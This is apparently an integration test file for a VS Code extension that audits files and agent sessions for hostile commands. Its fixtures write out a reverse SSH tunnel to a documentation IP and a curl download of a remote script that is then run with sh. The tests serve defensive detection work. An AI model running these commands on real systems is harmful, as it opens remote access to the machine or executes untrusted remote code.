/** A folder that is no repository. */
import assert from "node:assert/strict";
import {
  ConfigurationTarget,
  commands,
  DiagnosticSeverity,
  env,
  type Hover,
  MarkdownString,
  type TextDocument,
  window,
  workspace,
} from "vscode";
import type { AuditAnswer } from "../../../extension/server/protocol.ts";
import { everyCommandSpeaks } from "./every-command.ts";
import { closeAll, diagnostics, eventually, open, ours, ruleOf, textAt } from "./looking.ts";
import { runMocha } from "./run-mocha.ts";
import { notice, noticesLeft, texts } from "./workbench.ts";

export const run = (): Promise<void> =>
  runMocha(() => {
    afterEach(closeAll);

    it("shows everything, for there is nothing to compare with", async () => {
      const { document } = await open("setup.sh");
      const [found] = await diagnostics(document, 1);
      assert.ok(found);
      assert.equal(textAt(document, found), "s\\sh -fNR 9:localhost:22 agent@203.0.113.7");
    });

    it("cannot be reviewed, and says so without harm", async () => {
      noticesLeft();
      for (const command of ["reviewChanges", "checkGate", "openChecklist", "chooseBase"]) {
        assert.equal(await commands.executeCommand(`countersign.${command}`), undefined, command);
        assert.match(
          await notice(/git repository/),
          /is not inside a git repository, so there is no change to review\. Audit the workspace/,
        );
      }
    });

    it("is underlined as loudly as the person wants for a category, and no louder verdict comes of it", async () => {
      const { document } = await open("setup.sh");
      await severity(document, DiagnosticSeverity.Error);
      const settings = workspace.getConfiguration("countersign");
      await settings.update("diagnostics.severity", { tunnel: "hint", miner: "error" }, ConfigurationTarget.Global);
      await severity(document, DiagnosticSeverity.Hint);
      const answer = await commands.executeCommand<AuditAnswer>("countersign.auditFile");
      assert.equal(answer.verdict, "attention");
      await settings.update("diagnostics.severity", undefined, ConfigurationTarget.Global);
      await severity(document, DiagnosticSeverity.Error);
    });

    it("leads along a flow: where a file was fetched from where it is run, in place, and says so on hovering", async () => {
      const content = "#!/bin/sh\ncurl -fsSLo /tmp/x.sh http://203.0.113.7/x.sh\necho one\nsh /tmp/x.sh\n";
      const document = await workspace.openTextDocument({ language: "shellscript", content });
      await window.showTextDocument(document);
      const found = await eventually("the finding", () => ours(document).find((one) => ruleOf(one).startsWith("command/download-run")));
      assert.equal(textAt(document, found), "sh /tmp/x.sh");
      const [fetched] = (found.relatedInformation ?? []).filter(({ message }) => message === "fetched here");
      assert.equal(fetched?.location.uri.toString(), document.uri.toString());
      assert.equal(document.getText(fetched?.location.range), "curl -fsSLo /tmp/x.sh http://203.0.113.7/x.sh");
      const hovers = await commands.executeCommand<Hover[]>("vscode.executeHoverProvider", document.uri, found.range.start);
      const text = hovers.flatMap(({ contents }) => contents.map((part) => (part instanceof MarkdownString ? part.value : ""))).join("\n");
      for (const part of [
        "What the rule saw",
        ":fetch http://203.0.113.7/x.sh | :run sh",
        "severity",
        "**Why it matters**",
        "**What to do**",
      ])
        assert.ok(text.includes(part), part);
    });

    it("says what is missing where an audit has nothing to read", async () => {
      noticesLeft();
      assert.equal(await commands.executeCommand("countersign.auditFile"), undefined);
      assert.equal(await notice(/file/), "No file is in view. Open the one to audit first.");
      await open("empty.txt");
      assert.equal(await commands.executeCommand("countersign.auditSelection"), undefined);
      assert.equal(await notice(/selected/), "Nothing is selected. Select the text to audit first.");
      await env.clipboard.writeText("");
      assert.equal(await commands.executeCommand("countersign.auditClipboard"), undefined);
      assert.equal(await notice(/clipboard/), "There is no text in the clipboard. Copy what you want to audit first.");
      assert.equal(await commands.executeCommand("countersign.auditLastSession"), undefined);
      assert.match(await notice(/session/), /^No agent left a session about this workspace/);
      assert.equal(await commands.executeCommand("countersign.explainFinding"), undefined);
      assert.match(await notice(/finding/), /^There is no finding here\./);
    });

    it("fills its view with what an audit found, and says so above", async () => {
      await commands.executeCommand("countersign.auditWorkspace");
      await eventually("the finding in the view", async () => {
        const rows = await texts('.pane:has(h3.title:text-is("Findings")) [role=treeitem]');
        return rows.some((text) => /^(critical|high) severity: /.test(text)) || undefined;
      });
      const messages = await texts(".pane .message");
      assert.ok(
        messages.some((text) => text.includes("1 finding.")),
        messages.join(),
      );
    });

    it("leaves no command without a clear word where nothing is open", async () => {
      await closeAll();
      await everyCommandSpeaks();
    });

    it("can be audited", async () => {
      const answer = await commands.executeCommand<{ findings: readonly unknown[] }>("countersign.auditWorkspace");
      assert.equal(answer.findings.length, 1);
    });
  });

function severity(document: TextDocument, wanted: DiagnosticSeverity): Promise<true> {
  return eventually(`a finding of severity ${wanted}`, () => ours(document).some((one) => one.severity === wanted) || undefined);
}
